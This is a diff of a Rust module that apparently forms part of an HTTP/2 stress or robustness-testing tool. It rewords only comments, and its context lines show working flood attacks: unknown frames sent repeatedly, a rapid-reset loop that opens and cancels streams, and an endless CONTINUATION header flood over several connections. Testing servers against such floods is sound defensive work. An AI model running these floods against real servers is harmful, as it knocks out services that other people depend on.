@@ -5,7 +5,7 @@ use anyhow::Result;
 use super::{Attack, Running, Target, nothing};
 use crate::raw::{self, Raw, frame, head, stream};
 
-/// The connections that flood at once.
+/// The number of connections that flood at once.
 const CONNECTIONS: usize = 4;
 
 const fn flood(name: &'static str, run: fn(Target) -> Running<String>) -> Attack {
@@ -33,7 +33,7 @@ pub const UNKNOWN: Attack = flood("flood of unknown frames", |target| {
     repeat(target, frame(raw::UNKNOWN, 0, 0, &[]))
 });
 
-/// Sends one frame without end.
+/// Sends one frame repeatedly, without end.
 fn repeat(target: Target, frame: Vec<u8>) -> Running<String> {
     Box::pin(async move {
         let frames = frame.repeat(1000);
@@ -42,7 +42,7 @@ fn repeat(target: Target, frame: Vec<u8>) -> Running<String> {
     })
 }
 
-/// Sends the beginning once, and the rest without end.
+/// Sends the beginning once, then the rest repeatedly, without end.
 async fn send(target: Target, begin: Vec<u8>, rest: Vec<u8>) -> Result<()> {
     let mut connection = Raw::connect(&target.address, 1 << 16).await?;
     connection.send(&begin).await?;
@@ -80,7 +80,7 @@ pub const RESETS: Attack = flood("rapid reset", |target| {
     Box::pin(async move { target.repeat(CONNECTIONS, resets).await })
 });
 
-/// Begins calls and gives them up at once.
+/// Begins calls and cancels them at once.
 async fn resets(target: Target) -> Result<()> {
     let mut connection = Raw::connect(&target.address, 1 << 16).await?;
     let head = head(STREAM);
@@ -103,7 +103,7 @@ async fn resets(target: Target) -> Result<()> {
 pub const CONTINUATIONS: Attack = flood("headers without end", |target| {
     Box::pin(async move {
         let begin = frame(raw::HEADERS, 0, 1, &head(STREAM));
-        // One field after the other, in the shortest form.
+        // The smallest fields, one after the other.
         let more = frame(raw::CONTINUATION, 0, 1, &[0x83; 4000]).repeat(10);
         let act = move |target| send(target, begin.clone(), more.clone());
         target.repeat(CONNECTIONS, act).await
